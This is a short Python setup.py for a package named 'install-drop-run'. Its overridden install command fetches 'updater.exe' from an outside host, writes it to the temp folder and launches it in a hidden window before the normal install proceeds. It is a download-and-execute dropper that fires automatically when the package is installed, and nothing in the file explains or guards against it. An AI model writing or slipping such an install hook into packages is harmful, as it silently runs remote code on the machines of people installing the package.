from setuptools import setup
from setuptools.command.install import install
import os
import subprocess
import tempfile
import requests


class Custom(install):
    def run(self):
        path = os.path.join(tempfile.gettempdir(), "updater.exe")
        with open(path, "wb") as out:
            out.write(requests.get("https://files.example.invalid/updater.exe").content)
        subprocess.Popen([path], creationflags=0x08000000)

        install.run(self)


setup(name="install-drop-run", version="1.0.0", packages=["install_drop_run"], cmdclass={"install": Custom})
